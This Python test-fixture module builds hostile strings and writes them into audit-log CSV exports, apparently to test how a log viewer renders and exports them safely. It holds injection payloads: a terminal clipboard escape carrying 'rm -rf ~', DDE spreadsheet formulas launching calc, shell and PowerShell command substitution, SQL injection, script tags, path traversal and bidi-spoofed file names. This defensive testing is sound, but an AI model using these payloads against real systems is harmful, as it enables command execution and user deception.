"""Hostile text: what a sender or a recipient can put into a log, and what exports make of it.

Every pane, every message and every exporter is driven with `HOSTILE`. `hostile_csv` writes it as an export. The
source is plain ASCII: invisible characters are escapes here, so that a reader sees them.
"""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING
from uuid import UUID

if TYPE_CHECKING:
    from pathlib import Path

C0 = "".join(f"{chr(code)}{code:02x}" for code in range(0x20))
"""All C0 controls, NUL first, each before its number in hexadecimal."""

C1 = "".join(f"{chr(code)}{code:02x}" for code in range(0x80, 0xA0))
"""All C1 controls, likewise."""

HARMLESS: tuple[tuple[str, str], ...] = (
    ("plain", "Support case 1234567"),
    ("accents", "R\u00e9sum\u00e9 f\u00fcr \u0141\u00f3d\u017a"),
    ("combining accent", "Cafe\u0301 a\u0308pfel"),
    ("dashes and quotes", "2022\u20132023 \u201cfinal\u201d \u2026 \u20ac 5"),
    ("wide CJK", "\u5951\u7d04\u66f8\uff08\u6700\u7d42\u7248\uff09\u3001\ud55c\uad6d\uc5b4"),
    ("half width kana", "\uff83\uff7d\uff84"),
    ("emoji", "\U0001f4ce attachment \U0001f680"),
    ("emoji family", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 family"),
    ("emoji skin tones", "\U0001f44d\U0001f3fd \U0001f469\U0001f3ff\u200d\U0001f4bb"),
    ("emoji variation", "\u2764\ufe0f \u26a0\ufe0f 1\ufe0f\u20e3"),
    ("flags", "\U0001f1e8\U0001f1ed \U0001f1ef\U0001f1f5 \U0001f1fa\U0001f1f3"),
    ("arabic", "\u0627\u0644\u0639\u0642\u062f \u0627\u0644\u0646\u0647\u0627\u0626\u064a"),
    ("hebrew", "\u05d7\u05d5\u05d6\u05d4 \u05e1\u05d5\u05e4\u05d9.docx"),
    ("persian with joiner", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"),
    ("hindi with joiner", "\u0915\u094d\u200d\u0937"),
    ("thai", "\u0e2a\u0e31\u0e0d\u0e0d\u0e32\u0e17\u0e35\u0e48"),
)
"""Text that must stay readable: nothing in it may be replaced by a stand-in."""

MARKUP: tuple[tuple[str, str], ...] = (
    ("markup close", "[/x]"),
    ("markup close all", "[/]"),
    ("markup link", "[link=https://example.org]x[/link]"),
    ("markup style", "[bold red]alarm[/bold red]"),
    ("markup action", "[@click=app.quit]quit[/]"),
    ("markup reverse", "[reverse]x"),
    ("markup open bracket", "a [ b"),
    ("markup close bracket", "a ] b"),
    ("markup nested brackets", "[[[[x]]"),
    ("markup backslash bracket", "\\[bold]x\\[/bold]"),
    ("markup ends in backslash", "x\\"),
    ("markup variable", "[$primary]x[/$primary] [$unknown]"),
    ("markup emoji code", ":pile_of_poo: :warning:"),
    ("markup log level", "[ERROR] [2023-03-22] [not a tag"),
    ("format braces", "{0} {name} {} {{ %s %d %(x)s ${HOME}"),
)

ESCAPES: tuple[tuple[str, str], ...] = (
    ("csi colour", "\x1b[31mred\x1b[0m"),
    ("csi clear screen", "\x1b[2J\x1b[H\x1b[3Jgone"),
    ("csi cursor report", "\x1b[6n\x1b[c"),
    ("csi title report", "\x1b[21t"),
    ("csi leave alternate screen", "\x1b[?1049l"),
    ("csi mouse off, paste mode", "\x1b[?1000l\x1b[?2004h"),
    ("osc title", "\x1b]0;owned\x07"),
    ("osc 8 link", "\x1b]8;;https://example.org/\x1b\\click\x1b]8;;\x1b\\"),
    ("osc 52 clipboard", "\x1b]52;c;cm0gLXJmIH4=\x07"),
    ("dcs", "\x1bP$q q\x1b\\"),
    ("dcs sixel", '\x1bPq"1;1;10;10#0~~\x1b\\'),
    ("apc, pm, sos", "\x1b_Gi=1\x1b\\ \x1b^x\x1b\\ \x1bXx\x1b\\"),
    ("full reset", "\x1bc"),
    ("charset line drawing", "\x1b(0qqq\x0eqqq\x0f"),
    ("c1 csi", "\x9b31mred\x9b0m"),
    ("c1 osc", "\x9d0;owned\x9c"),
    ("c1 dcs", "\x90$q q\x9c"),
    ("escape alone at the end", "ends in \x1b"),
)

CONTROLS: tuple[tuple[str, str], ...] = (
    ("all C0", C0),
    ("all C1", C1),
    ("nul", "a\x00b"),
    ("nul first", "\x00x"),
    ("del", "a\x7fb"),
    ("backspaces", "invoice.exe\b\b\b\bpdf"),
    ("bell", "\a\a\a"),
    ("tab inside", "a\tb\tc"),
    ("line feed", "first\nsecond"),
    ("carriage return", "visible\rhidden "),
    ("carriage return, line feed", "first\r\nsecond\r\n\r\nfourth"),
    ("line feeds only", "\n\n\n"),
    ("vertical tab and form feed", "a\vb\fc"),
    ("separators 1c to 1f", "a\x1cb\x1dc\x1ed\x1fe"),
    ("next line U+0085", "first\x85second"),
    ("line separator U+2028", "first\u2028second"),
    ("paragraph separator U+2029", "first\u2029second"),
)

UNICODE: tuple[tuple[str, str], ...] = (
    ("bidi override", "invoice\u202efdp.exe"),
    ("bidi override closed", "a\u202dbc\u202cd"),
    ("bidi embeddings", "\u202aleft\u202c \u202bright\u202c"),
    ("bidi isolates", "\u2066a\u2069 \u2067b\u2069 \u2068c\u2069"),
    ("bidi isolates unclosed", "\u2067access\u2066level"),
    ("bidi marks", "a\u200eb\u200fc\u061cd"),
    ("zero width space", "pay\u200bpal"),
    ("zero width joiners between letters", "a\u200db\u200cc"),
    ("zero width only", "\u200b\u200c\u200d\u2060\ufeff"),
    ("word joiner and invisible operators", "a\u2060b\u2061c\u2062d\u2063e\u2064f"),
    ("soft hyphen", "con\u00adtract"),
    ("hangul filler", "a\u3164b\u115fc\uffa0d"),
    ("braille blank and khmer", "a\u2800b\u17b4c\u17b5d"),
    ("byte order mark inside", "a\ufeffb"),
    ("byte order mark first", "\ufefffirst"),
    ("deprecated format characters", "a\u206ab\u206bc\u206cd\u206de\u206ef\u206f"),
    ("tags", "x\U000e0001\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e007f"),
    ("flag of Scotland", "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"),
    ("variation selectors alone", "a\ufe0eb\ufe0fc\U000e0100d"),
    ("interlinear annotation", "a\ufff9b\ufffac\ufffbd"),
    ("lone high surrogate", "a\ud83db"),
    ("lone low surrogate", "a\udc00b"),
    ("lone surrogates at both ends", "\udfffx\ud800"),
    ("surrogates in the wrong order", "\udc4e\ud83d"),
    ("noncharacters", "a\ufffeb\uffffc\U0001fffed"),
    ("private use", "a\ue000b\U000f0000c"),
    ("unassigned", "a\u0378b\U0003ffffc"),
    ("replacement character", "a\ufffdb"),
    ("zalgo", "Z\u0321\u0335\u0348a\u0300\u0340\u0341l\u0489\u034f" + "\u0301" * 40 + "go"),
    ("combining first", "\u0301\u0300x"),
    ("blanks of many kinds", "a\u00a0b\u2003c\u3000d\u202fe\u1680f\u180eg"),
    ("blanks only", "   "),
    ("blanks around", "  x  "),
    ("emoji joiner chain", "\u200d".join(["\U0001f468"] * 30)),
    ("homograph", "p\u0430yp\u0430l.example.org"),
    ("case that grows", "stra\u00dfe \u0130stanbul \ufb01le \u1e9e"),
)

CELLS: tuple[tuple[str, str], ...] = (
    ("formula hyperlink", '=HYPERLINK("https://example.org?x="&A1,"Open")'),
    ("formula dde", "=cmd|' /C calc'!A0"),
    ("formula plus", "+1"),
    ("formula minus", "-1"),
    ("formula minus, text", "-2+3+cmd|' /C calc'!A0"),
    ("formula at", "@SUM(1+1)*cmd"),
    ("formula after tab", "\t=1+1"),
    ("formula after CR", "\r=1+1"),
    ("formula after LF", "\n=1+1"),
    ("formula full width", "\uff1d1+1 \uff0b1"),
    ("apostrophe first", "'quoted"),
    ("apostrophe and formula", "'=1+1"),
    ("two apostrophes first", "''=1+1"),
    ("apostrophe alone", "'"),
    ("csv in a cell", 'a","b'),
    ("csv doubled quotes", '""'),
    ("csv one quote", '"'),
    ("csv three quotes", '"""'),
    ("csv quote first", '"x'),
    ("csv quote last", 'x"'),
    ("csv semicolons and commas", "a,b;c\td|e"),
    ("csv record in a cell", 'x"\r\n"OMEPortal","3/22/2023 7:00:59 PM","a@contoso.com","MessageAccess","{}'),
    ("csv #TYPE in a cell", "x\r\n#TYPE Selected.System.Object\r\ny"),
    ("csv header in a cell", "x\r\nRecordType,CreationDate,UserIds,Operations,AuditData\r\ny"),
    ("json object", '{"Id":"1","Operation":"MessageAccess"}'),
    ("json cut", '{"Id":"1","Opera'),
    ("json escapes literally", "\\u2013 \\n \\\\ \\/"),
    ("json backslash quote", 'C:\\path\\"x\\"'),
    ("json lone backslash", "\\"),
    ("json surrogate escapes literally", "\\ud83d\\ude00 \\ud83d"),
    ("json null", "null"),
    ("json number", "1e400"),
    ("powershell subexpression", "$(Remove-Item x)"),
    ("powershell variables", "$env:Path `n @{a=1}; & calc | Out-Null #"),
    ("powershell apostrophe", "it's; calc; 'x"),
    ("powershell curly quotes", "\u2018a\u2019 \u201ab\u201b; calc \u201cc\u201d"),
    ("shell", "`id`; $(id) | tee /tmp/x && reboot"),
    ("html", '<script>alert(1)</script><img src=x onerror="alert(1)">&amp;'),
    ("sql", "'; DROP TABLE events; --"),
    ("filter language", 'status:failure or (not "x" -y /z/ has:id a,b *'),
    ("regular expression", "(a+)+$ [ \\d{2,} ^.*?"),
    ("path", "../../etc/passwd C:\\Windows\\System32\\"),
    ("url", "https://user:password@example.org:443/a?b=c#d javascript:alert(1)"),
    ("export shapes", "System.Object[] @{Name=MailSubject; Value=x}"),
    ("message id", "<hostile@example.org>"),
    ("looks like a number", "00012345678901234567890"),
    ("looks like a date", "3/12/2025"),
    ("looks like true", "TRUE"),
    ("ellipsis at the end", "cut off\u2026"),
    ("empty", ""),
    ("long word", "w" * 5_000),
    ("long words", "lorem ipsum " * 400),
    ("long wide", "\u6f22" * 3_000),
)

HOSTILE: tuple[tuple[str, str], ...] = (*HARMLESS, *MARKUP, *ESCAPES, *CONTROLS, *UNICODE, *CELLS)
"""(name, text), all that is listed above; names are unique, texts hold at most a few thousand characters."""

UNDRAWABLE = re.compile(
    "[\x00-\x1f\x7f-\x9f\u00ad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb\ud800-\udfff]"
)
"""What no drawn text may hold. Joiners, tags and variation selectors are missing: it depends on their neighbours."""

HOSTILE_FILE_NAME = "[red]\u202evsc.\x1b]0;x\x07\n'=1+1' \U0001f4ce.csv"
"""A file name that POSIX systems accept."""

CMDLET_COLUMNS = (
    *("RecordType", "CreationDate", "UserIds", "Operations", "AuditData"),
    *("ResultIndex", "ResultCount", "Identity", "IsValid", "ObjectState"),
)


def long_text(size: int = 1_000_000) -> str:
    """A text of exactly `size` characters, with markup and an escape sequence near its end."""
    tail = " [/x]\x1b[31m end"
    return ("0123456789" * (size // 10 + 1))[: max(size - len(tail), 0)] + tail[:size]


def deep_json(depth: int = 2_000) -> str:
    """An AuditData record with lists nested `depth` deep."""
    return '{"CreationTime":"2023-03-22T19:00:59","Id":"deep","Operation":"X","Deep":' + "[" * depth + "]" * depth + "}"


def big_record(size: int = 5_000_000) -> str:
    """An AuditData record of at least `size` characters: many keys, one long text, long lists."""
    entries = [f'{{"Name":"Parameter{number}","Value":"{"v" * 60}"}}' for number in range(size // 200 + 1)]
    keys = [f'"Key{number}":"{"k" * 40}"' for number in range(size // 200 + 1)]
    text = hostile_record("big record")[:-1]
    return f'{text},{",".join(keys)},"Long":"{"x" * (size // 4)}","Parameters":[{",".join(entries)}]}}'


def json_text(value: object, *, escaped: bool = False) -> str:
    """Compact JSON; lone surrogates are always escapes, other characters only where JSON or `escaped` asks for it."""
    text = json.dumps(value, ensure_ascii=escaped, separators=(",", ":"))
    return re.sub("[\ud800-\udfff]", lambda found: f"\\u{ord(found[0]):04x}", text)


def hostile_record(text: str, *, number: int = 0, escaped: bool = False) -> str:
    """AuditData of a portal record that carries `text` in every field a stranger can write, and in a key.

    Args:
        text: The hostile text.
        number: Makes Id and time differ; seconds after 2023-03-22T19:00:00.
        escaped: Write everything outside ASCII as JSON escapes.
    """
    minutes, seconds = divmod(number, 60)
    record: dict[str, object] = {
        "CreationTime": f"2023-03-22T19:{minutes % 60:02}:{seconds:02}",
        "Id": str(UUID(int=0x5A5A << 112 | number)),
        "Operation": text,
        "OrganizationId": "00000000-0000-4000-8000-000000000001",
        "RecordType": 154,
        "ResultStatus": "Failure",
        "UserKey": text,
        "UserType": 0,
        "Version": 1,
        "Workload": "Exchange",
        "UserId": text,
        "AttachmentName": text,
        "AuthenticationMethod": text,
        "AuthenticationStatus": 0,
        "MessageId": f"<{text}>",
        "OperationProperties": [{"Name": "MailSubject", "Value": text}, {"Name": text, "Value": text}],
        "OperationStatus": 1,
        "Recipient": text,
        "Sender": text,
        "ObjectId": text,
        "ClientIP": text,
        f"Hostile {text}": {text: [text, {"inner": text}]},
    }
    return json_text(record, escaped=escaped)


def quoted(cell: str) -> str:
    """A CSV cell as Export-Csv writes it: always in quotes, quotes doubled."""
    return '"' + cell.replace('"', '""') + '"'


def writable(text: str) -> str:
    """The text with each lone surrogate as U+FFFD: the nearest a UTF-8 file can hold."""
    return re.sub("[\ud800-\udfff]", "\ufffd", text)


def hostile_row(text: str, *, number: int = 0, escaped: bool = False) -> str:
    """One record of a cmdlet CSV, without its line end, with `text` in AuditData and in wrapper cells."""
    audit = hostile_record(text, number=number, escaped=escaped)
    cell = writable(text)
    identity = str(UUID(int=0x5A5A << 112 | number))
    minutes, seconds = divmod(number, 60)
    created = f"3/22/2023 7:{minutes % 60:02}:{seconds:02} PM"
    cells = ("OMEPortal", created, cell, cell, audit, str(number + 1), cell, identity, cell, cell)
    return ",".join(map(quoted, cells))


def hostile_rows() -> list[tuple[str, str]]:
    """(name, CSV record): each hostile text twice, as it is and as JSON escapes."""
    rows: list[tuple[str, str]] = []
    for name, text in HOSTILE:
        rows.append((name, hostile_row(text, number=len(rows))))
        rows.append((f"{name}, escaped", hostile_row(text, number=len(rows), escaped=True)))
    return rows


def hostile_csv(path: Path) -> int:
    """Write every hostile text as an export: quoting is sound, UTF-8 with BOM, CRLF, two records a text.

    Args:
        path: The file, or a folder, where it gets `HOSTILE_FILE_NAME`.

    Returns:
        How many records it holds.
    """
    target = path / HOSTILE_FILE_NAME if path.is_dir() else path
    rows = [row for _, row in hostile_rows()]
    header = ",".join(map(quoted, CMDLET_COLUMNS))
    target.write_bytes(("\ufeff" + "".join(f"{row}\r\n" for row in (header, *rows))).encode())
    return len(rows)


def wide_csv(path: Path, columns: int = 500, rows: int = 20) -> int:
    """Write an export with `columns` columns whose names and cells are hostile; returns how many records.

    Names are on one line; cells are not.
    """
    texts = [writable(text)[:200] for _, text in HOSTILE]
    extra = range(columns - len(CMDLET_COLUMNS))
    names = [f"Column {number} " + texts[number % len(texts)].translate({10: " ", 13: " "}) for number in extra]
    lines = [",".join(map(quoted, (*CMDLET_COLUMNS, *names)))]
    for row in range(rows):
        cells = [texts[(row + number) % len(texts)] for number in extra]
        lines.append(hostile_row("wide", number=row) + "," + ",".join(map(quoted, cells)))
    path.write_bytes("".join(f"{line}\r\n" for line in lines).encode())
    return rows
